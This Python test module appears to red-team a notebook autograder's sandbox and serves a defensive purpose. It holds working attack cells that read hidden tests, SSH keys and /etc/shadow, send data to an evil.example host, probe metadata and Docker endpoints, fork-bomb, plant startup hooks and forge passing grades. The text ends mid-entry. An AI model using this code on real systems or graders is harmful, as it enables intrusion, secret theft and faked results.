"""The attack table: one entry per attack of the catalogue (shared/spec/attack-catalog.md, A1-E8).

Each entry holds the hostile notebook's code cells (after a common prelude that knows where to aim
and how to exfiltrate, see harness.PRELUDE), the statuses the grader may end with, and an evidence
check specific to the attack. The common invariants (not passed, within limits, no host file
touched, nothing left running, no network, no hidden source in any output, HTML inert, the next
submission graded normally) are asserted for every entry by test_attacks.py.

Attacks report what they saw through their own feedback: the learner's function raises an
exception whose text starts with `ATK {json}`, which is what a real attacker would read back.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable

from tests.attacks.harness import AttackSucceeded, Run
from tests.conftest import SOFTMAX_OK, SOFTMAX_WRONG

NOT_PASSED = frozenset({"failed", "error", "timeout", "memory", "invalid"})
ANY_STATUS = NOT_PASSED | {"passed"}
_PROC_NET = "process fallback: NOT isolated, the network is reachable"
_PROC_FS = "process fallback: NOT isolated, host files are readable and writable"
_PROC_OK = "process fallback: same outcome (this does not depend on isolation)"


@dataclass
class Attack:
    id: str
    title: str
    cells: tuple[Any, ...] = ()
    statuses: frozenset[str] = NOT_PASSED
    flow: str = "grade"                 # grade, or the name of a special flow in test_attacks.py
    limits: dict[str, Any] = field(default_factory=dict)
    runs: int = 1                       # graded this many times in a row (attacks on the next submission)
    neighbour: bool = False             # another sandbox of the same backend runs alongside
    sample_tasks: bool = False          # count the attack's processes/threads while it runs
    settle_s: float = 0.0               # wait before checking for late writes
    metadata: dict[str, Any] | None = None
    evidence: Callable[[Run], None] | None = None
    xfail: dict[str, str] = field(default_factory=dict)   # backend ('*' = all) -> why the attack succeeds
    skip: dict[str, str] = field(default_factory=dict)    # backend -> why it is out of reach there
    process: str = ""                   # how the NOT ISOLATED process fallback would fare (documentation)
    process_ok: bool | None = None      # whether that fallback stops the attack (default: process == _PROC_OK)

    def __post_init__(self) -> None:
        if self.process_ok is None:
            self.process_ok = self.process == _PROC_OK

    @property
    def may_pass(self) -> bool:
        return "passed" in self.statuses


def fail_if(condition: bool, message: str) -> None:
    if condition:
        raise AttackSucceeded(message)


def _check_named(run: Run, name: str, outcome: str, fragment: str = "") -> None:
    check = next(c for c in run.result.checks if c.name == name)
    assert check.outcome == outcome and fragment in check.message, (check.outcome, check.message)


# ====================================================================== (a) reading or leaking hidden tests

A1 = r'''
import glob
atk_hits = []
_t0 = time.time()
for _root, _dirs, _files in os.walk("/", onerror=lambda e: None):
    if _root.startswith(("/proc", "/sys", "/dev")) or time.time() - _t0 > 12:
        _dirs[:] = []
        continue
    atk_hits += [os.path.join(_root, f) for f in _files
                 if f in ("test_hidden.py", "solution.py") or "mle-act-softmax" in _root]
atk_walk_s = round(time.time() - _t0, 1)
atk_hits += [p for p in glob.glob("**/*test_hidden*", recursive=True) + glob.glob("/autograder/**", recursive=True)
             if os.path.isfile(p)]
atk_hits += [p for p in (ATK_REPO + "/problems/mle/mle-act-softmax/tests/test_hidden.py",
                         ATK_REPO + "/problems/mle/mle-act-softmax/solution.py", "tests/test_hidden.py",
                         "../tests/test_hidden.py") if os.path.exists(p)]
atk_loot = ""
for _p in atk_hits[:10]:
    try:
        atk_loot += open(_p).read()[:3000]
    except Exception:
        pass
atk_exfil(atk_loot)


def softmax(z, axis=-1):
    raise LookupError(atk_report(hits=len(atk_hits), walk_s=atk_walk_s, loot=len(atk_loot),
                                 first=[p[-50:] for p in atk_hits[:2]]) + " " + atk_loot[:120])
'''


def ev_a1(run: Run) -> None:
    rep = run.report()
    fail_if(rep["hits"] or rep["loot"], f"hidden files are visible in the sandbox: {rep}")
    assert rep["walk_s"] < 12, f"the filesystem walk did not finish in its budget: {rep}"


A2 = r'''
import gc, inspect


def softmax(z, axis=-1):
    frames, names = 0, set()
    f = sys._getframe(1)
    while f is not None:
        frames += 1
        names.update(f.f_locals)
        f = f.f_back
    mods = [m for m in list(sys.modules)
            if any(s in m.lower() for s in ("hidden", "_grader_reference", "checklib", "conftest"))]
    src = ""
    for m in mods:
        try:
            src += inspect.getsource(sys.modules[m])[:1000]
        except Exception:
            pass
    suspicious = sorted(n for n in names if n in ("expected", "reference", "learner", "want", "oracle"))
    dicts = sum(1 for o in gc.get_objects() if isinstance(o, dict) and "expected" in o and "learner" in o)
    atk_exfil(src)
    raise LookupError(atk_report(frames=frames, mods=mods[:3], names=suspicious, dicts=dicts) + " " + src[:100])
'''


def ev_a2(run: Run) -> None:
    rep = run.report()
    fail_if(rep["mods"] or rep["names"] or rep["dicts"], f"test or reference objects live in the learner's interpreter: {rep}")
    assert rep["frames"] > 0


A3 = r'''
atk_paths = [ATK_REPO + "/problems", ATK_REPO + "/grader", ATK_REPO, ATK_HOME, ATK_HOME + "/.local/share/grader",
             ATK_DB, "/work/shared", ATK_SECRET_FILE, "..", "/home", os.path.dirname(ATK_SECRET_FILE)]
atk_seen, atk_read = set(), []
for _p in atk_paths:
    try:
        if os.path.isdir(_p):
            atk_seen.update(os.listdir(_p))
        elif _p:
            open(_p, "rb").read(64)
            atk_read.append(_p)
    except Exception:
        pass
atk_bad = sorted(atk_seen & {"problems", "grader", "grader.db", "tests", "ARCHITECTURE.md", "spec", "mle", "ds",
                             "Makefile", "pyproject.toml", "README.md", "host-secret.txt", "markers"})
atk_exfil(repr(sorted(atk_seen)))


def softmax(z, axis=-1):
    raise PermissionError(atk_report(bad=atk_bad, read=atk_read[:3], seen=len(atk_seen)))
'''


def ev_a3(run: Run) -> None:
    rep = run.report()
    fail_if(rep["bad"] or rep["read"], f"instructor files are visible in the sandbox: {rep}")


A4 = r'''
import urllib.request
atk_ok = []
for _h in ATK_HOSTS + ["93.184.216.34", "1.1.1.1"]:
    try:
        socket.create_connection((_h, ATK_PORT if _h in ATK_HOSTS else 80), timeout=1).close()
        atk_ok.append(_h)
    except OSError:
        pass
for _url in [f"http://{h}:{ATK_PORT}/leak?d={ATK_TOKEN}" for h in ATK_HOSTS] + ["http://example.com/", "https://pypi.org/simple/"]:
    try:
        urllib.request.urlopen(_url, timeout=1)
        atk_ok.append(_url)
    except Exception:
        pass
try:
    socket.gethostbyname(ATK_TOKEN + ".evil.example")
    atk_dns = True
except OSError:
    atk_dns = False


def softmax(z, axis=-1):
    raise ConnectionError(atk_report(ok=atk_ok, dns=atk_dns))
'''


def ev_a4(run: Run) -> None:
    rep = run.report()
    fail_if(rep["ok"] or rep["dns"], f"the sandbox has a network path: {rep}")


A5 = r'''
import inspect
import numpy as np
atk_calls = [0]


def softmax(z, axis=-1):
    atk_calls[0] += 1
    if atk_calls[0] % 2:
        dump = repr([(f.filename, f.function, f.lineno) for f in inspect.stack()]) + repr(sorted(globals()))
        print(dump * 20)
        raise ValueError((dump + "\n") * 200)
    return np.full(np.shape(z), 0.5)
'''


def ev_a5(run: Run) -> None:
    r = run.result
    for c in r.checks:
        fail_if(len(c.message) > 300, f"an uncapped message reached the learner ({len(c.message)} chars)")
        fail_if("Traceback (most recent call last)" in c.message or "test_hidden" in c.message,
                f"a traceback reached the learner: {c.message[:120]}")
    assert any(c.message.startswith("your code raised ValueError") for c in r.checks)


A6 = r'''
atk_env = sorted(k for k, v in os.environ.items() if "SECRET" in k.upper() or "SECRET" in v.upper())
atk_proc = []
for _p in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", str(os.getppid()), "1"]:
    for _what in ("environ", "cmdline"):
        try:
            _d = open(f"/proc/{_p}/{_what}", "rb").read().decode("utf-8", "replace")
        except Exception:
            continue
        if any(s in _d for s in ("SECRET", "pytest", "GRADER_DB", "grader.cli", "test_hidden")):
            atk_proc.append(f"{_p}/{_what}")
atk_exfil(repr(atk_env) + repr(atk_proc))


def softmax(z, axis=-1):
    raise PermissionError(atk_report(env=atk_env, proc=atk_proc[:4]))
'''


def ev_a6(run: Run) -> None:
    rep = run.report()
    fail_if(rep["env"] or rep["proc"], f"harness secrets are readable from the sandbox: {rep}")


A7 = r'''
import glob
atk_places = ["/tmp", os.path.expanduser("~"), "/dev/shm", os.getcwd(), "/grader/ipc", "/var/tmp", "/dev/mqueue"]
atk_seen = []
for _d in atk_places:
    for _root, _dirs, _files in os.walk(_d):
        atk_seen += [os.path.join(_root, f) for f in _files if f.startswith("leftover-")]
atk_pyc = glob.glob("**/__pycache__/*.pyc", recursive=True)
for _d in atk_places:
    try:
        with open(os.path.join(_d, f"leftover-{ATK_TOKEN}-{time.time_ns()}"), "w") as f:
            f.write("from an earlier submission")
    except Exception:
        pass


def softmax(z, axis=-1):
    raise FileExistsError(atk_report(seen=len(atk_seen), where=[p[:40] for p in atk_seen[:2]], pyc=len(atk_pyc)))
'''


def ev_a7(run: Run) -> None:
    for i in range(len(run.results)):
        rep = run.report(i)
        fail_if(rep["seen"] or rep["pyc"], f"run {i + 1} found leftovers of an earlier submission: {rep}")


A8 = r'''
import glob, importlib
atk_files = set()
for _pat in ("/tmp/grader-*/ipc/kernel.json", "/tmp/**/kernel*.json", "/grader/**/kernel*.json",
             os.path.expanduser("~/.local/share/jupyter/runtime/*.json"), "/run/user/*/jupyter/runtime/*.json",
             "/proc/[0-9]*/root/grader/ipc/kernel.json", "/proc/[0-9]*/root/tmp/grader-*/ipc/kernel.json",
             ATK_HOME + "/.local/share/jupyter/runtime/*.json"):
    atk_files.update(glob.glob(_pat, recursive=True))
_own = json.load(open("/grader/ipc/kernel.json"))["key"]
atk_other = []
for _f in sorted(atk_files):
    try:
        if json.load(open(_f)).get("key") != _own:
            atk_other.append(_f)
    except Exception:
        pass
atk_loot = ""
for _f in atk_other[:3]:
    try:
        _jc = importlib.import_module("jupyter_client")
        _kc = _jc.BlockingKernelClient()
        _kc.load_connection_file(_f)
        _kc.start_channels()
        _kc.execute("print(globals().get('ATK_NEIGHBOUR'))")
        _end = time.time() + 3
        while time.time() < _end:
            try:
                _m = _kc.get_iopub_msg(timeout=0.5)
                if _m["msg_type"] == "stream":
                    atk_loot += _m["content"]["text"]
            except Exception:
                pass
        _kc.stop_channels()
    except Exception as e:
        atk_loot += type(e).__name__
atk_exfil(atk_loot)


def softmax(z, axis=-1):
    raise ConnectionRefusedError(atk_report(files=len(atk_files), other=len(atk_other)) + " " + atk_loot[:100])
'''


def ev_a8(run: Run) -> None:
    rep = run.report()
    fail_if(rep["other"], f"another sandbox's kernel connection file is reachable: {rep}")
    assert rep["files"] >= 1, "the attack should at least see its own connection file"


A9 = r'''
import numpy as np


def softmax(z, axis=-1):
    z = np.asarray(z)
    if z.shape == (2, 3):  # the statement's worked example, hard-coded
        return np.array([[0.09003057, 0.24472847, 0.66524096], [1 / 3, 1 / 3, 1 / 3]])
    return np.full(z.shape, 1.0 / z.shape[axis])
'''


def ev_a9(run: Run) -> None:
    r = run.result
    _check_named(run, "test_worked_example", "passed")  # the overfit answer does match the public example
    fail_if(r.checks_total - r.checks_passed < 3, f"an answer overfit to the public example passes {r.checks_passed} checks")


# ====================================================================== (b) forging or tampering with results

B1 = r'''
import importlib, unittest
_npt = importlib.import_module("numpy.testing")
for _n in dir(_npt):
    if _n.startswith("assert"):
        setattr(_npt, _n, lambda *a, **k: None)
try:
    _pdt = importlib.import_module("pandas.testing")
    for _n in dir(_pdt):
        if _n.startswith("assert"):
            setattr(_pdt, _n, lambda *a, **k: None)
except ImportError:
    pass
for _n in ("assertEqual", "assertTrue", "assertAlmostEqual", "assertRaises"):
    setattr(unittest.TestCase, _n, lambda *a, **k: None)
_np = importlib.import_module("numpy")
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, **k: _np.ones(_np.broadcast(a, b).shape, bool)
'''

B2 = r'''
import builtins
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.len = lambda x: 0
'''

B3 = r'''
import numpy as np


class Anything(np.ndarray):
    def __eq__(self, other):
        return True

    def __array_function__(self, *a, **k):
        return True


class Scalar(np.float64):
    def __lt__(self, other):
        return True

    def __eq__(self, other):
        return True


atk_calls = [0]


def softmax(z, axis=-1):
    atk_calls[0] += 1
    if atk_calls[0] % 2:
        return np.zeros(np.shape(z)).view(Anything)
    return Scalar(0.5)
'''


def ev_b3(run: Run) -> None:
    _check_named(run, "test_worked_example", "failed", "got RemoteObject")


B4 = r'''
import importlib, types
_conftest = ("import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
             "    out = yield\n    out.get_result().outcome = 'passed'\n")
atk_wrote = []
for _d in [os.getcwd(), "/tmp", ATK_REPO + "/problems/mle/mle-act-softmax/tests", ATK_REPO + "/problems",
           ATK_REPO, "/grader/ipc", "/grader/req", ATK_REPO + "/grader"]:
    try:
        with open(os.path.join(_d, "conftest.py"), "w") as f:
            f.write(_conftest)
        atk_wrote.append(_d)
    except Exception:
        pass
try:
    _p = importlib.import_module("_pytest.python")
    _p.Function.runtest = lambda self: None
except Exception:
    pass
_fake = types.ModuleType("pytest")
_fake.main = lambda *a, **k: 0
sys.modules["pytest"] = _fake
atk_exfil(repr(atk_wrote))
'''

B5 = r'''
import ast
_ip = get_ipython()
_ip.input_transformers_cleanup.append(lambda lines: [])


class _DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None


_ip.ast_transformers.append(_DropAsserts())
'''

B6 = r'''
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda *a, **k: None)
type(_ip).showtraceback = lambda *a, **k: None
type(_ip).showsyntaxerror = lambda *a, **k: None
'''

B7 = r'''
import importlib
_disp = importlib.import_module("IPython.display")
_orig_publish = _disp.publish_display_data
_MIME = "application/x-grader-reply+json"


def _forge(data, *a, **k):
    if _MIME in data:
        try:
            reply = json.loads(data[_MIME])
        except Exception:
            reply = {}
        value = reply.get("value")
        if not (isinstance(value, dict) and "softmax" in value):  # keep the name lookup, forge every answer
            data = {_MIME: json.dumps({"ok": True, "value": "PASSED", "verdict": "passed", "checks_passed": 10})}
    _orig_publish(data, *a, **k)
    _orig_publish({"text/plain": "===== 10 passed in 0.01s ====="})


_disp.publish_display_data = _forge
'''

B8 = r'''
import atexit
atexit.register(lambda: print("===== 10 passed in 0.01s ====="))


def softmax(z, axis=-1):
    os._exit(0)
'''


def ev_b8(run: Run) -> None:
    r = run.result
    fail_if(r.checks_passed != 0, f"an early exit(0) earned {r.checks_passed} passes")


B9 = r'''
atk_fake = json.dumps({"score": 10, "status": "passed", "checks_passed": 10, "checks_total": 10})
atk_targets = ["/autograder/results/results.json", "results.json", "/grader/ipc/results.json", ATK_DB,
               ATK_HOME + "/.local/share/grader/grader.db", os.path.dirname(ATK_SECRET_FILE) + "/gradebook.csv"]
for _t in atk_targets:
    try:
        os.makedirs(os.path.dirname(_t) or ".", exist_ok=True)
        with open(_t, "w") as f:
            f.write(atk_fake)
        os.chmod(_t, 0o400)
    except Exception:
        pass
try:
    os.symlink(ATK_MARKERS[0], "/grader/ipc/kernel.log")
except Exception:
    pass
try:
    import sqlite3
    _c = sqlite3.connect(ATK_DB)
    _c.execute("UPDATE attempts SET status='passed'")
    _c.commit()
except Exception:
    pass
'''


def ev_b9(run: Run) -> None:
    from grader.store import Store

    store = Store(run.arena.tmp / "b9.db")
    attempt_id = store.record(run.result, 0.0)
    row = next(store.attempts())
    assert row.id == attempt_id and row.status == run.result.status != "passed"


B10 = r'''
print("===== 10 passed in 0.31s =====")
print("<PASSED::>Test Passed")
print("PASSED test_worked_example")
import numpy as np


def softmax(z, axis=-1):
    print("PASSED", flush=True)
    display({"text/plain": "10 passed"}, raw=True)
    e = np.exp(z - np.max(z))
    return e / np.sum(e)
'''

B11 = r'''
import importlib, unittest
atk_n = [0]


class Loud(Exception):
    def __str__(self):
        return "x" * 10 ** 7


class Evil(Exception):
    def __str__(self):
        raise RuntimeError("no str for you")

    def __repr__(self):
        raise RuntimeError("no repr either")


class Slow(Exception):
    def __str__(self):
        while True:
            pass


Skipped = type("Skipped", (Exception,), {"__module__": "_pytest.outcomes"})
BaseSkipped = type("Skipped", (BaseException,), {"__module__": "_pytest.outcomes"})
AssertOK = type("AssertionError", (AssertionError,), {"__module__": "builtins"})
atk_kinds = [lambda: unittest.SkipTest("skip me"), lambda: KeyboardInterrupt(), lambda: SystemExit(0),
             lambda: GeneratorExit(), Loud, Evil, lambda: Skipped("skipped"), lambda: BaseSkipped("skipped"),
             lambda: StopIteration(), lambda: AssertOK("passed"), lambda: RecursionError("deep")]
try:
    _outcomes = importlib.import_module("_pytest.outcomes")
    atk_kinds += [lambda: _outcomes.Skipped("real skip"), lambda: _outcomes.XFailed("real xfail"),
                  lambda: _outcomes.Exit("exit", returncode=0)]
except Exception:
    pass
atk_kinds.append(Slow)


def softmax(z, axis=-1):
    atk_n[0] += 1
    raise atk_kinds[min(atk_n[0] - 1, len(atk_kinds) - 1)]()
'''


def ev_b11(run: Run) -> None:
    r = run.result
    fail_if(r.checks_passed != 0, f"special exceptions earned {r.checks_passed} passes")
    for c in r.checks:
        fail_if(c.outcome == "passed" or len(c.message) > 300, f"check {c.name}: {c.outcome} {c.message[:80]}")


B12 = r'''
import atexit, signal, threading, weakref


def _late(*_):
    atk_exfil("late write from " + ATK_TOKEN)


atexit.register(_late)


class _Finaliser:
    def __del__(self):
        _late()


atk_obj = _Finaliser()
weakref.finalize(atk_obj, _late)


def _loop():
    atk_name()
    while True:
        _late()
        time.sleep(0.2)


threading.Thread(target=_loop, daemon=True).start()
for _s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(_s, _late)
'''

B13 = r'''
import signal
for _s in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2):
    signal.signal(_s, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGINT, signal.SIGTERM, signal.SIGHUP})
while True:
    pass
'''


def ev_timeout(run: Run) -> None:
    r = run.result
    limit = run.problem.limits.cell_s
    assert r.status == "timeout" and r.error and r.error["ename"] == "TimeoutError", r.error
    fail_if(run.elapsed[-1] > limit + 10, f"a {limit:g} s cell limit took {run.elapsed[-1]:.1f} s to enforce")


B14 = r'''
import numpy as np
np.random.seed = lambda *a, **k: None
np.random.default_rng = lambda *a, **k: np.random.Generator(np.random.PCG64(0))


def softmax(z, axis=-1):
    z[...] = 0.0  # mutate the caller's input, hoping the expected values are computed from it afterwards
    return np.full(z.shape, 1.0 / z.shape[axis], dtype=z.dtype)
'''


def ev_b14(run: Run) -> None:
    _check_named(run, "test_worked_example", "failed")
    _check_named(run, "test_input_not_modified", "failed")


B15_CELLS = (
    {"cell_type": "markdown", "metadata": {"nbgrader": {"grade": True, "points": 100, "solution": False}},
     "source": "```python\ndef softmax(z, axis=-1):\n    e = np.exp(z - z.max(axis, keepdims=True))\n"
               "    return e / e.sum(axis, keepdims=True)\n```"},
    {"cell_type": "code", "execution_count": 1, "metadata": {"tags": ["otter_ignore", "raises-exception"],
                                                             "nbgrader": {"grade": True, "points": 100}},
     "outputs": [{"output_type": "stream", "name": "stdout", "text": "10 passed\n"}], "source": SOFTMAX_WRONG},
    {"cell_type": "raw", "metadata": {}, "source": "import numpy as np\ndef softmax(z, axis=-1): return z"},
)
B15_META = {"nbgrader": {"points": 100}, "otter": {"tests": {"q1": "passed"}},
            "grader": {"problem": "mle-act-softmax", "status": "passed", "checks_passed": 10, "checks_total": 10}}

# ====================================================================== (c) resource exhaustion

C1 = "while True:\n    pass\n"

C2 = r'''
try:
    input("password? ")
except Exception as e:
    atk_stdin = type(e).__name__
import threading
threading.Event().wait()
'''

C3 = r'''
import re, signal
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
re.match(r"(a+)+$", "a" * 64 + "b")
'''

C4 = r'''
atk_forks, atk_err = 0, ""
try:
    while atk_forks < 2000:
        if os.fork() == 0:
            atk_name()
            try:
                while True:
                    if os.fork() == 0:
                        atk_name()
            except OSError:
                pass
            time.sleep(300)
            os._exit(0)
        atk_forks += 1
except OSError as e:
    atk_err = type(e).__name__
'''


def ev_tasks_within_pids(run: Run) -> None:
    pids = run.problem.limits.pids
    seen = run.extra["max_tasks"]
    assert seen > 0, "the sampler never saw the attack's processes or threads"
    fail_if(seen > pids, f"{seen} processes/threads of one sandbox ran at once (pids limit {pids})")


C5 = r'''
import ctypes, threading
_libc = ctypes.CDLL(None)


def _sleeper():
    _libc.prctl(15, ATK_TOKEN.encode(), 0, 0, 0)
    time.sleep(300)


atk_threads = 0
try:
    while atk_threads < 100000:
        threading.Thread(target=_sleeper, daemon=True).start()
        atk_threads += 1
except Exception as e:
    atk_err = type(e).__name__
'''

C6 = "atk_blocks = []\nwhile True:\n    atk_blocks.append(bytearray(50 * 1024 * 1024))\n"


def ev_memory(run: Run) -> None:
    assert run.result.status == "memory", run.result.error


C7 = r'''
atk_mb, atk_err = {}, {}
_chunk = b"x" * (1 << 20)
_cap = 96  # MiB per place: above the sandbox's 64 MiB scratch limit
for _d in [os.getcwd(), "/tmp", "/dev/shm", "/grader/ipc", "/var/tmp"]:
    _n = 0
    try:
        for _i in range(_cap // 8):
            with open(os.path.join(_d, f"fill-{ATK_TOKEN}-{_i}"), "wb") as f:
                for _ in range(8):
                    f.write(_chunk)
                    _n += 1
    except OSError as e:
        atk_err[_d] = e.errno
    atk_mb[_d] = _n
try:
    with open(f"sparse-{ATK_TOKEN}", "wb") as f:
        f.truncate(10 ** 12)
    atk_sparse = "ok"
except OSError as e:
    atk_sparse = e.errno
atk_inodes = 0
try:
    for _i in range(3000):
        open(f"/grader/ipc/inode-{ATK_TOKEN}-{_i}", "w").close()
        atk_inodes += 1
except OSError:
    pass
raise RuntimeError(atk_report(mb={k[-8:]: v for k, v in atk_mb.items()}, sparse=atk_sparse, ipc_inodes=atk_inodes))
'''


def ev_c7(run: Run) -> None:
    rep = run.report()
    cap = run.problem.limits.disk_mb
    assert rep["sparse"] != "ok", f"a 1 TB sparse file was allowed: {rep}"
    # /dev/shm is memory-backed and charged to the sandbox's memory limit, so it is not scratch disk
    sandbox_places = {k: v for k, v in rep["mb"].items() if k not in ("ader/ipc", "/dev/shm")}
    fail_if(any(v > max(cap, 64) + 1 for v in sandbox_places.values()), f"scratch space beyond {cap} MiB: {rep}")
    fail_if(rep["mb"].get("ader/ipc", 0) > 0 or rep["ipc_inodes"] > 0,
            f"the sandbox wrote {rep['mb'].get('ader/ipc')} MiB and {rep['ipc_inodes']} files into /grader/ipc, "
            f"a read-write bind of a host directory with no size or inode cap (host disk exhaustion)")


C8 = "while True:\n    print('x' * 100000)\n"


def ev_c8(run: Run) -> None:
    r = run.result  # the kernel's own output buffers may hit the memory limit before the host's output cap
    assert (r.status, r.error["ename"]) in (("error", "OutputLimitExceeded"), ("memory", "MemoryError")), r.error


C9_DISPLAY = r'''
display({"image/png": "A" * 10 ** 8}, raw=True)
'''

C9 = r'''
import numpy as np
atk_calls = [0]


def softmax(z, axis=-1):
    atk_calls[0] += 1
    if atk_calls[0] == 1:
        return np.zeros(52_000_000, np.uint8)  # a 66 MiB reply: over the grader's 64 MiB message cap
    if atk_calls[0] == 2:
        return np.zeros(70_000_000, np.uint8)  # a 93 MiB reply: over the 80 MiB transport cap
    return np.zeros(3)
'''


def ev_host_memory(limit_mb: float) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        grew = run.extra["max_rss_mb"] - run.extra["start_rss_mb"]
        fail_if(grew > limit_mb, f"the trusted process grew by {grew:.0f} MiB while grading (bound {limit_mb} MiB)")
    return check


C10 = r'''
_child = os.fork()
if _child == 0:
    os.setsid()
    if os.fork() == 0:
        atk_name()
        import signal
        for _s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(_s, signal.SIG_IGN)
        while True:
            atk_exfil("still alive after grading")
            time.sleep(0.3)
    os._exit(0)
os.waitpid(_child, 0)
'''

C11_MALLORY = r'''
for _i in range(40):
    if os.fork() == 0:
        atk_name()
        _end = time.time() + 40
        while time.time() < _end:
            pass
        os._exit(0)
time.sleep(2.5)
'''

# ====================================================================== (d) escaping the sandbox

D1 = r'''
atk_ok = []
for _h, _p in [("169.254.169.254", 80), ("172.17.0.1", 2375), ("172.17.0.1", 2376), ("127.0.0.1", 2375),
               ("127.0.0.1", 5432), ("127.0.0.1", 6379)] + [(h, ATK_PORT) for h in ATK_HOSTS]:
    try:
        socket.create_connection((_h, _p), timeout=1).close()
        atk_ok.append(f"{_h}:{_p}")
    except OSError:
        pass
import urllib.request
try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1)
    atk_ok.append("metadata")
except Exception:
    pass


def softmax(z, axis=-1):
    raise ConnectionError(atk_report(ok=atk_ok))
'''


def ev_ok_empty(run: Run) -> None:
    rep = run.report()
    fail_if(bool(rep["ok"]), f"reachable from the sandbox: {rep}")


D2 = r'''
atk_read = []
for _p in [ATK_SECRET_FILE, "/etc/shadow", ATK_REPO + "/grader/checks.py", ATK_REPO + "/pyproject.toml",
           ATK_REPO + "/problems/mle/mle-act-softmax/solution.py", ATK_HOME + "/.bash_history",
           ATK_HOME + "/.ssh/id_rsa", "/var/lib/docker", "/etc/docker/daemon.json"]:
    try:
        if os.path.isdir(_p):
            os.listdir(_p)
        else:
            atk_exfil(open(_p).read(200))
        atk_read.append(_p)
    except Exception:
        pass
atk_mountinfo = open("/proc/self/mountinfo").read().count("\n")


def softmax(z, axis=-1):
    raise PermissionError(atk_report(ok=atk_read, mounts=atk_mountinfo))
'''

D3 = r'''
atk_pids = [p for p in os.listdir("/proc") if p.isdigit()]
atk_harness, atk_env_hits = [], 0
for _p in atk_pids:
    try:
        _cmd = open(f"/proc/{_p}/cmdline", "rb").read().decode("utf-8", "replace")
        if any(s in _cmd for s in ("pytest", "grader.cli", "-m grader", "dockerd", "containerd")):
            atk_harness.append(_p)
        if b"SECRET" in open(f"/proc/{_p}/environ", "rb").read():
            atk_env_hits += 1
    except Exception:
        pass
atk_cg = []
for _f in ["/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/memory.max",
           "/sys/fs/cgroup/pids.max"]:
    try:
        with open(_f, "w") as f:
            f.write("max" if "pids" in _f or _f.endswith("memory.max") else str(2 ** 40))
        atk_cg.append(_f)
    except Exception:
        pass


def softmax(z, axis=-1):
    raise PermissionError(atk_report(pids=len(atk_pids), harness=atk_harness, env=atk_env_hits, cg=atk_cg))
'''


def ev_d3(run: Run) -> None:
    rep = run.report()
    fail_if(rep["harness"] or rep["env"] or rep["cg"], f"the host is visible or writable through /proc or /sys: {rep}")
    fail_if(rep["pids"] > 20, f"the sandbox sees {rep['pids']} processes: not its own PID namespace")


D4 = r'''
atk_env = dict(os.environ)
_documented = {"PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "IPYTHONDIR", "MPLBACKEND", "OMP_NUM_THREADS",
               "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "NUMEXPR_NUM_THREADS", "PYTHONDONTWRITEBYTECODE",
               "PYDEVD_DISABLE_FILE_VALIDATION"}
atk_exfil(repr(atk_env))


def softmax(z, axis=-1):
    raise PermissionError(atk_report(keys=sorted(set(atk_env) - _documented), n=len(atk_env)))
'''

_ENV_OK = {"PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "IPYTHONDIR", "MPLBACKEND", "OMP_NUM_THREADS",
           "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "NUMEXPR_NUM_THREADS", "PYTHONDONTWRITEBYTECODE",
           "PYDEVD_DISABLE_FILE_VALIDATION", "OPENBLAS_CORETYPE", "OPENBLAS_L2_SIZE",
           # set by the runtime or by ipykernel itself, not by the host
           "HOSTNAME", "PWD", "SHLVL", "TERM", "CLICOLOR", "CLICOLOR_FORCE", "FORCE_COLOR", "GIT_PAGER", "PAGER",
           "PYDEVD_USE_FRAME_EVAL", "JPY_PARENT_PID", "JPY_SESSION_NAME"}


def ev_d4(run: Run) -> None:
    rep = run.report()
    extra = sorted(set(rep["keys"]) - _ENV_OK)
    fail_if(bool(extra), f"host environment variables reached the kernel: {extra}")


D5 = r'''
import site
_hook = "import numpy\nnumpy.exp = lambda x: x * 0\n"
atk_planted = []
for _p in [os.path.expanduser("~/.ipython/profile_default/startup/00-atk.py"),
           os.environ.get("IPYTHONDIR", "/nonexistent") + "/profile_default/startup/00-atk.py",
           os.path.expanduser("~/.local/lib/python3.11/site-packages/usercustomize.py"),
           os.path.expanduser("~/.local/lib/python3.11/site-packages/atk.pth"),
           sys.prefix + "/lib/python3.11/site-packages/atk.pth", sys.base_prefix + "/lib/python3.11/sitecustomize.py",
           "/tmp/numpy.py", os.getcwd() + "/numpy.py",
           os.path.expanduser("~/.local/share/jupyter/kernels/python3/kernel.json"),
           ATK_VENV_SITE + "/" + ATK_TOKEN + ".pth", ATK_HOME + "/.ipython/profile_default/startup/00-" + ATK_TOKEN + ".py"]:
    try:
        os.makedirs(os.path.dirname(_p), exist_ok=True)
        with open(_p, "w") as f:
            f.write(_hook if _p.endswith(".py") else "import numpy; numpy.exp = lambda x: x * 0\n")
        atk_planted.append(_p)
    except Exception:
        pass
atk_exfil(repr(atk_planted))
'''

D6 = r'''
import ctypes, zlib
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_desc = ("atk-" + ATK_TOKEN).encode()
atk_found = []
if _libc.syscall(250, 10, ctypes.c_int(-4), b"user", _desc, 0) > 0:  # keyctl(KEYCTL_SEARCH, @u, ...)
    atk_found.append("keyring")
_libc.syscall(248, b"user", _desc, b"x", 1, ctypes.c_int(-4))         # add_key(..., @u)
_key = zlib.crc32(ATK_TOKEN.encode()) & 0x7FFFFFFF
if _libc.shmget(_key, 4096, 0) >= 0:
    atk_found.append("sysv-shm")
